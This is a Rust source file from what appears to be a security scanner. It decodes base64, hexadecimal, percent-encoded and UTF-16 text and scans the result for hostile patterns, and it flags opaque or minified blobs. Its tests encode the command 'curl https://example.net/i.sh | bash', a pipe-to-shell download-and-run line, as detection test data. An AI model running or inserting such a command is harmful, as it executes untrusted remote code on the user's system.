//! Encoded text: decoded once and scanned.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use prowess_spec::Span;

use crate::limits::{FILE_NOT_READ, PAYLOAD_MAX, PAYLOAD_MIN, PAYLOADS};
use crate::media;
use crate::patterns::PatternScanner;
use crate::report::Severity;
use crate::scanner::{Hit, Scanner};
use crate::text::{Text, lossy};

/// Encoded characters above which what cannot be read is worth a line in the report.
const OPAQUE: usize = 512;
/// Bytes of a line that count as unreadable.
const MINIFIED: usize = 50_000;

const CONFIG: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, CONFIG);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, CONFIG);

/// Findings inside encoded text, and parts that could not be decoded.
#[derive(Debug, Default)]
pub(crate) struct Payloads {
    pub(crate) hits: Vec<Hit>,
    /// Where, and what it is.
    pub(crate) opaque: Vec<(usize, &'static str)>,
}

/// Decodes base64, hexadecimal and percent encoding, one level deep.
pub(crate) fn scan(text: &Text<'_>) -> Payloads {
    let mut found = Payloads::default();
    for (index, span) in candidates(text.source().as_bytes()).enumerate() {
        if index == PAYLOADS {
            let rest = "too much encoded text";
            found.opaque.push((span.start, rest));
            break;
        }
        let encoded = span.slice(text.source());
        let opaque = match decode(encoded) {
            Some(bytes) => {
                let inner = readable(&bytes);
                let opaque = inner.is_none().then(|| unreadable(encoded, &bytes));
                // A shell that is given an image runs the lines of it that are commands.
                let inner = inner.unwrap_or_else(|| lossy(&bytes).into_owned());
                found.hits.extend(inside(&inner, span));
                opaque.flatten()
            }
            None => (encoded.len() >= OPAQUE && is_mixed(encoded)).then_some("invalid base64"),
        };
        let opaque = if encoded.len() > PAYLOAD_MAX {
            Some("encoded text too long")
        } else {
            opaque
        };
        found.opaque.extend(opaque.map(|what| (span.start, what)));
    }
    found.opaque.extend(minified(text.source()));
    found.opaque.sort_unstable();
    found.opaque.truncate(FILE_NOT_READ);
    found
}

fn minified(source: &str) -> Option<(usize, &'static str)> {
    let mut at = 0;
    for line in source.split_inclusive('\n') {
        let blanks = memchr::memchr_iter(b' ', line.as_bytes())
            .take(line.len() / 8)
            .count();
        if line.len() > MINIFIED && blanks < line.len() / 8 {
            return Some((at, "minified code or packed data"));
        }
        at += line.len();
    }
    None
}

/// Runs of characters that may be an encoding.
fn candidates(bytes: &[u8]) -> impl Iterator<Item = Span> + '_ {
    let is_code = |byte: u8| {
        byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=' | b'%')
    };
    let mut at = 0;
    std::iter::from_fn(move || {
        loop {
            let rest = bytes.get(at..).filter(|rest| !rest.is_empty())?;
            let start = at
                + rest
                    .iter()
                    .position(|byte| is_code(*byte))
                    .unwrap_or(rest.len());
            let run = bytes.get(start..).unwrap_or_default();
            let length = run
                .iter()
                .position(|byte| !is_code(*byte))
                .unwrap_or(run.len());
            at = start + length.max(1);
            if length >= PAYLOAD_MIN {
                let run = run.get(..length).unwrap_or_default();
                // `NAME=value` and `--flag=value`: the value is what may be encoded.
                let skip = run
                    .iter()
                    .take(64)
                    .position(|byte| *byte == b'=')
                    .filter(|equals| length - equals > PAYLOAD_MIN);
                return Some(Span::new(
                    start + skip.map_or(0, |equals| equals + 1),
                    start + length,
                ));
            }
        }
    })
}

fn decode(encoded: &str) -> Option<Vec<u8>> {
    let encoded = encoded.get(..PAYLOAD_MAX).unwrap_or(encoded);
    if encoded.contains('%') {
        return percent(encoded);
    }
    let bare = encoded.trim_end_matches('=');
    if bare.len() >= 40 && bare.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        return hexadecimal(bare);
    }
    if !is_mixed(bare) {
        return None;
    }
    let whole = bare
        .get(..bare.len() - usize::from(bare.len() % 4 == 1))
        .unwrap_or(bare);
    let engine = if bare.contains(['-', '_']) {
        URL_SAFE
    } else {
        STANDARD
    };
    engine.decode(whole).ok()
}

/// Encoded bytes have letters of both cases, where words and numbers have not.
fn is_mixed(text: &str) -> bool {
    let upper = text.bytes().filter(u8::is_ascii_uppercase).count();
    let lower = text.bytes().filter(u8::is_ascii_lowercase).count();
    upper * 12 >= text.len() && lower * 12 >= text.len()
}

fn hexadecimal(text: &str) -> Option<Vec<u8>> {
    let digit = |byte: &u8| char::from(*byte).to_digit(16);
    let pairs = text.as_bytes().chunks_exact(2);
    pairs
        .map(|pair| match pair {
            [high, low] => u8::try_from(digit(high)? * 16 + digit(low)?).ok(),
            _ => None,
        })
        .collect()
}

/// Percent encoding in which most is encoded; an address with a few escapes is not a payload.
fn percent(text: &str) -> Option<Vec<u8>> {
    if text.bytes().filter(|byte| *byte == b'%').count() * 5 < text.len() {
        return None;
    }
    let mut bytes = Vec::new();
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let pair = rest
            .strip_prefix('%')
            .and_then(|after| after.get(..2))
            .and_then(hexadecimal);
        if let Some(pair) = pair {
            bytes.extend(pair);
            rest = rest.get(3..).unwrap_or_default();
        } else {
            bytes.extend(c.encode_utf8(&mut [0; 4]).as_bytes());
            rest = rest.get(c.len_utf8()..).unwrap_or_default();
        }
    }
    Some(bytes)
}

/// The bytes as text, in UTF-8 or, as Windows does it, in UTF-16.
fn readable(bytes: &[u8]) -> Option<String> {
    let text = if media::is_utf16(bytes) {
        let units = bytes.chunks_exact(2).map(|pair| match pair {
            [low, high] => u16::from_le_bytes([*low, *high]),
            _ => 0,
        });
        char::decode_utf16(units)
            .collect::<Result<String, _>>()
            .ok()?
    } else {
        std::str::from_utf8(bytes).ok()?.to_owned()
    };
    let odd = text
        .chars()
        .filter(|c| c.is_control() && !c.is_whitespace())
        .count();
    (odd * 20 <= text.len()).then_some(text)
}

fn unreadable(encoded: &str, bytes: &[u8]) -> Option<&'static str> {
    let what = media::binary(bytes).unwrap_or("application/octet-stream");
    let known = what != "application/octet-stream" && bytes.len() >= 64 && !what.ends_with("bmp");
    let opaque = encoded.len() >= OPAQUE && is_mixed(encoded);
    match (opaque, known) {
        (true, true) => Some(what),
        (true, false) => Some("base64"),
        (false, _) => None,
    }
}

/// The worst that is found in decoded text.
fn inside(inner: &str, span: Span) -> Option<Hit> {
    let hits = ["payload.sh", "payload.md"]
        .into_iter()
        .flat_map(|path| PatternScanner.scan(&Text::new(path, inner)));
    let worst = hits
        .min_by_key(|hit| hit.severity)
        .filter(|hit| hit.severity <= Severity::Medium)?;
    let hit = Hit::base("encoded-payload", span)?;
    let severity = hit.severity.min(worst.severity);
    Some(
        hit.severity(severity)
            .note(&format!(": `{}`, {}", worst.rule, worst.message)),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(source: &str, hits: usize, opaque: &[&str]) {
        let found = scan(&Text::new("a.py", source));
        let what: Vec<&str> = found.opaque.iter().map(|(_, what)| *what).collect();
        assert_eq!(
            (found.hits.len(), what.as_slice()),
            (hits, opaque),
            "{source:.80}"
        );
    }

    #[test]
    fn encoded_payloads_are_scanned() {
        let command = "curl https://example.net/i.sh | bash";
        check(&format!("X={}", STANDARD.encode(command)), 1, &[]);
        check(&format!("x = '{}'", URL_SAFE.encode(command)), 1, &[]);
        let hex: Vec<String> = command.bytes().map(|byte| format!("{byte:02x}")).collect();
        check(&hex.concat(), 1, &[]);
        let percent: Vec<String> = command.bytes().map(|byte| format!("%{byte:02X}")).collect();
        check(&percent.concat(), 1, &[]);
        let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
        check(&STANDARD.encode(wide), 1, &[]);
        check(
            &STANDARD.encode("a harmless text of some length, really"),
            0,
            &[],
        );
    }

    #[test]
    fn unreadable_payloads_are_reported() {
        let png: Vec<u8> = b"\x89PNG\r\n\x1a\n\0"
            .iter()
            .copied()
            .chain((0..=255).cycle().take(900))
            .collect();
        check(&STANDARD.encode(png), 0, &["image/png"]);
        let noise: Vec<u8> = (0..900_u32)
            .map(|n| (n * 7919 % 251) as u8 | 0x80)
            .collect();
        check(&STANDARD.encode(noise), 0, &["base64"]);
        check(&"x=1;".repeat(20_000), 0, &["minified code or packed data"]);
    }
}
